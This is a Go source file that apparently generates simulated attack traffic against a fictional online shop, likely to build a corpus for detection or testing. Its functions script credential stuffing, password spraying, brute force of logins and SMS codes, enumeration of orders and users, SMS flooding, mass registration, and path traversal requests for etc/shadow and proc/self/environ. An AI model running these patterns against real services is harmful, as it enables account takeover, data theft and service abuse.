package crowd

import (
	"fmt"
	"net/url"
	"time"

	"github.com/lapwing-sec/lapwing/ops/corpus/shop"
)

// accomplice is a customer account an attacker owns.
func (v *Visitor) accomplice(i int) *shop.Person { return v.World.Shop.Customers()[270+i] }

func hammer(v *Visitor) {
	slug := v.World.Shop.Slugs()[7]
	for range 1800 {
		v.get(shop.HostAPI, "/api/v1/products/"+slug+"/stock")
		v.pause(140*time.Millisecond, 190*time.Millisecond)
	}
}

func leakedPairs(v *Visitor) {
	people := v.World.Shop.Customers()
	for i, word := range passwordList(v.R, 320) {
		name := fmt.Sprintf("%s.%d", people[v.R.IntN(len(people))].Username, i) // most leaked names have no account here
		if i%3 == 0 {
			name = people[i*11%len(people)].Username
		}
		form := url.Values{"username": {name}, "password": {word}}
		v.call("POST", shop.HostShop, "/login", "application/x-www-form-urlencoded", []byte(form.Encode()))
		v.cookie = "" // a pair that fits is noted, the session is not kept
		v.pause(1500*time.Millisecond, 2800*time.Millisecond)
	}
}

func crawlOrders(v *Visitor) {
	v.login(shop.HostAPI, "/api/v1/login", v.accomplice(0), 0)
	first, _ := shop.OrderIDs()
	for i := range 900 {
		v.get(shop.HostAPI, fmt.Sprintf("/api/v1/orders/%d", first+i))
		v.pause(120*time.Millisecond, 260*time.Millisecond)
	}
}

func crawlUsers(v *Visitor) {
	v.login(shop.HostAPI, "/api/v1/login", v.accomplice(1), 0)
	for _, p := range v.World.Shop.Customers()[:300] {
		v.get(shop.HostAPI, fmt.Sprintf("/api/v1/users/%d", p.ID))
		v.pause(250*time.Millisecond, 450*time.Millisecond)
	}
}

func crawlRotating(v *Visitor) {
	v.login(shop.HostAPI, "/api/v1/login", v.accomplice(4), 0)
	first, _ := shop.OrderIDs()
	for i := range 400 {
		v.Addr = rotating[i%len(rotating)]
		v.get(shop.HostAPI, fmt.Sprintf("/api/v1/orders/%d", first+1000+i))
		v.pause(250*time.Millisecond, 450*time.Millisecond)
	}
}

func readDirectory(v *Visitor) {
	for page := 1; page <= 12; page++ {
		v.get(shop.HostStaff, fmt.Sprintf("/internal/staff?page=%d&page_size=10", page))
		v.pause(3*time.Second, 7*time.Second)
	}
	v.get(shop.HostStaff, "/internal/staff?page=1&page_size=500")
}

func traverse(v *Visitor) {
	v.login(shop.HostAPI, "/api/v1/login", v.accomplice(2), 0)
	for _, tail := range []string{"etc/passwd", "etc/shadow", "windows/win.ini", "proc/self/environ", "app/config.yaml"} {
		for depth := 1; depth <= 6; depth++ {
			up := ""
			for range depth {
				up += "../"
			}
			v.get(shop.HostAPI, "/api/v1/files/download?path="+url.QueryEscape(up+tail))
			v.pause(time.Second, 3*time.Second)
		}
	}
}

func slowBrute(v *Visitor) {
	name := v.World.Shop.Staff()[10].Username
	for _, word := range passwordList(v.R, 160) {
		v.postJSON(shop.HostStaff, "/hr/api/v1/login", map[string]string{"username": name, "password": word})
		v.pause(4200*time.Millisecond, 5800*time.Millisecond)
	}
}

func spray(v *Visitor) {
	for _, p := range v.World.Shop.Customers()[40:240] {
		v.get(shop.HostAPI, "/legacy/login?user="+queryEscape(p.Username)+"&password=Autumn2026")
		v.pause(2*time.Second, 3*time.Second)
	}
}

func floodSMS(v *Visitor) {
	for range 240 {
		mobile := fmt.Sprintf("139%08d", v.R.IntN(1e8))
		v.postJSON(shop.HostAPI, "/api/v1/sms/send", map[string]string{"mobile": mobile, "scene": "login"})
		v.pause(1800*time.Millisecond, 2600*time.Millisecond)
	}
}

func bruteCode(v *Visitor) {
	mobile := v.World.Shop.Customers()[5].Mobile
	v.postJSON(shop.HostAPI, "/api/v1/sms/send", map[string]string{"mobile": mobile, "scene": "login"})
	for range 300 {
		code := fmt.Sprintf("%06d", v.R.IntN(1e6))
		v.postJSON(shop.HostAPI, "/api/v1/login/sms", map[string]string{"mobile": mobile, "code": code})
		v.pause(400*time.Millisecond, 650*time.Millisecond)
	}
}

func registerMany(v *Visitor) {
	for i := range 120 {
		name := fmt.Sprintf("buyer%05d", 41000+i*7)
		v.postJSON(shop.HostAPI, "/api/v1/register", map[string]string{
			"username": name, "password": "Buyer@" + name[5:], "mobile": fmt.Sprintf("170%08d", v.R.IntN(1e8)),
			"email": name + "@throwaway.example",
		})
		v.pause(3*time.Second, 5*time.Second)
	}
}

func exportMany(v *Visitor) {
	v.login(shop.HostAPI, "/api/v1/login", v.accomplice(3), 0)
	for i := range 90 {
		v.get(shop.HostAPI, fmt.Sprintf("/api/v1/orders/export?page=%d&page_size=200", 1+i))
		v.pause(5*time.Second, 8*time.Second)
	}
}
